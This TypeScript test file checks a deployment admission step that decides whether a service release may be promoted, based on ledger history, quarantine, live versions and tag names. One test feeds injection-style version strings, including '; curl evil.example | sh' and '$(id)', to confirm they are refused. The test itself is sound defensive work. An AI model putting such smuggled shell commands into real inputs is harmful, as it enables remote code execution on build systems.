import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { collectFacts } from "../../actions/admit/collect-facts.ts";
import { run } from "../../actions/admit/run.ts";
import { NotAdmittedError } from "../../src/errors/not-admitted-error.ts";
import {
  DeploymentsChannel,
  GithubClient,
  GithubCommits,
  GithubDeliveryHistory,
  GithubDeployments,
  GithubTags,
} from "../../src/ledger/index.ts";
import { ImageRegistry } from "../../src/registry/index.ts";
import type { CommitSha, Digest, Release } from "../../src/release/release.ts";
import type { DeliveryRecord } from "../../src/rollout/record.ts";
import { DeliveryFixture } from "./delivery-fixture.ts";

let world: DeliveryFixture;
let older: Release;
let newer: Release;
let records: Record<string, Partial<DeliveryRecord>>;
let outputs: Record<string, string>;
let summary: string;

beforeEach(async () => {
  world = await DeliveryFixture.start();
  older = await release("1.4.0-alpha.1");
  newer = await release("1.4.0-alpha.2");
  records = {};
  outputs = {};
  summary = "";
});
afterEach(async () => {
  await world.stop();
  expect(world.github.unknownRequests).toEqual([]);
});

async function release(version: string): Promise<Release> {
  const commit: CommitSha = world.git.commit(`feat: ${version}`);
  world.git.git("tag", `v${version}`);
  const digest: Digest = await world.pushImage(version);
  await registry().tag("ghcr.io/acme/info", digest, version);
  return { version, digest, commit };
}

const registry = () => new ImageRegistry({ mirrors: { "ghcr.io": world.registry.url } });
const github = () =>
  new GithubClient({ token: "t0ken", repository: "acme/info", baseUrl: world.github.url, retries: 0 });
const service = { name: "info", directory: ".", tagPrefix: "v" };

/** Writes into the ledger that a release ended so in staging. */
async function delivered({ version, digest, commit }: Release, kind: "succeeded" | "rolled-back"): Promise<void> {
  const environment = { name: "staging", production: false };
  const channel = new DeploymentsChannel(new GithubDeployments(github()), { service, environment });
  const told = { kind, service: "info", environment: "staging", version, digest, commit, phase: kind } as const;
  const rest = { rolloutId: `r-${version}`, candidatePercent: 0, text: kind, reason: "", actor: "ada", atMs: 0 };
  await channel.deliver({ ...told, ...rest }, "k", undefined);
}

function record(values: Partial<DeliveryRecord>): DeliveryRecord {
  const empty = { previous: [], quarantine: [], history: [], outbox: [], commands: [], audit: [] };
  return { formatVersion: 2, service: "info", environment: "x", epoch: 1, ...empty, ...values };
}

/** What a person says of one promotion. */
interface Said {
  readonly overrideFreeze?: string;
  readonly retryReason?: string;
}

async function admit(version: string, environment = "production", said: Said = {}): Promise<void> {
  const { overrideFreeze, retryReason } = said;
  const inputs = {
    service: "info",
    environment,
    version,
    "override-freeze": overrideFreeze,
    "retry-reason": retryReason,
    ...{ manifest: "delivery.json", token: "t0ken" },
  };
  await run(inputs, {
    manifest: world.manifest,
    runner: {
      setOutput: (name, value) => void Object.assign(outputs, { [name]: value }),
      addSummary: async (text) => {
        summary += text;
      },
      info: () => {},
    },
    collectFacts: (request) =>
      collectFacts(request, {
        nowMs: Date.parse("2026-12-24T12:00:00Z"),
        isFreezeOverridden: overrideFreeze !== undefined,
        isRetry: retryReason !== undefined,
        tags: new GithubTags(github()),
        commits: new GithubCommits(github()),
        images: registry(),
        history: new GithubDeliveryHistory(new GithubDeployments(github()), service),
        readRecord: async ({ name }) => (records[name] ? record(records[name]) : undefined),
      }),
  });
}

async function refusals(version: string, environment?: string): Promise<readonly string[]> {
  const failure = await admit(version, environment).catch((error: unknown) => error);
  expect(outputs).toEqual({});
  return failure instanceof NotAdmittedError ? failure.refusals.map(({ kind }) => kind) : [String(failure)];
}

describe("admit", () => {
  it("admits what the ledger saw succeed in the environment before, by its tag's name too", async () => {
    await delivered(newer, "succeeded");
    await admit("v1.4.0-alpha.2");
    expect(outputs).toEqual({ version: newer.version, digest: newer.digest, commit: newer.commit });
    expect(summary).toContain("may go to production");
  });

  it.each([
    ["is live there", (good: Release) => ({ live: good })],
    ["was live there", (good: Release) => ({ previous: [good] })],
    [
      "succeeded there",
      (good: Release) => ({
        history: [
          { rolloutId: "r", release: good, phase: "succeeded", text: "", startedAtMs: 0, endedAtMs: 1 } as const,
        ],
      }),
    ],
  ])("admits what by the target's own record %s, though the ledger missed it", async (_what, recordOf) => {
    records.staging = recordOf(newer);
    await admit("1.4.0-alpha.2");
    expect(outputs.digest).toBe(newer.digest);
  });

  it("refuses what was never delivered, or was rolled back, in the environment before", async () => {
    expect(await refusals("1.4.0-alpha.2")).toEqual(["not-delivered-before"]);
    await delivered(newer, "rolled-back");
    expect(await refusals("1.4.0-alpha.2")).toEqual(["not-delivered-before"]);
  });

  it("refuses what succeeded in the environment before, but was taken back there since", async () => {
    await delivered(newer, "succeeded");
    records.staging = {
      quarantine: [{ kind: "failed", ...newer, rolloutId: "r", reason: "burns its budget", atMs: 0 }],
    };
    expect(await refusals("1.4.0-alpha.2")).toEqual(["not-delivered-before"]);
  });

  it("needs nothing before the first environment", async () => {
    await admit("1.4.0-alpha.1", "dev");
    expect(outputs.commit).toBe(older.commit);
  });

  it("refuses an ancestor of what is live, what is live, and what is in quarantine", async () => {
    for (const one of [older, newer]) await delivered(one, "succeeded");
    records.production = {
      live: newer,
      quarantine: [{ kind: "failed", ...older, rolloutId: "r", reason: "errors 5.1 %", atMs: 0 }],
    };
    expect(await refusals("1.4.0-alpha.1")).toEqual(["quarantined", "older-than-live"]);
    expect(await refusals("1.4.0-alpha.2")).toEqual(["already-live"]);
  });

  it("admits what is in quarantine when a person says why, but not into another environment's", async () => {
    await delivered(newer, "succeeded");
    const entry = { kind: "failed" as const, ...newer, rolloutId: "r", reason: "errors 5.1 %", atMs: 0 };
    records.production = { quarantine: [entry] };
    await admit("1.4.0-alpha.2", "production", { retryReason: "the database was full" });
    expect(outputs.digest).toBe(newer.digest);
    records.staging = { quarantine: [entry] };
    await expect(admit("1.4.0-alpha.2", "production", { retryReason: "again" })).rejects.toThrow(/did not succeed/);
  });

  it("refuses a build whose release name another build has", async () => {
    for (const one of [older, newer]) await delivered(one, "succeeded");
    world.git.git("tag", "v1.4.0", older.commit);
    await registry().tag("ghcr.io/acme/info", older.digest, "1.4.0");
    expect(await refusals("1.4.0-alpha.2")).toEqual(["name-taken"]);
  });

  it.each([
    ["9.9.9-alpha.1", "no-such-version"],
    ["latest", "malformed-version"],
    ["1.4.0-alpha.1; curl evil.example | sh", "malformed-version"],
    ["$(id)", "malformed-version"],
  ])("refuses %j as %s", async (version, kind) => {
    expect(await refusals(version)).toContain(kind);
    expect(summary).not.toMatch(/[^\\]</);
  });

  it("decides nothing while the ledger cannot be read", async () => {
    world.github.fail({ answer: 500, times: 99, matching: "deployments" });
    expect((await refusals("1.4.0-alpha.2"))[0]).toContain("GitHub could not list the deployments to staging");
  });
});
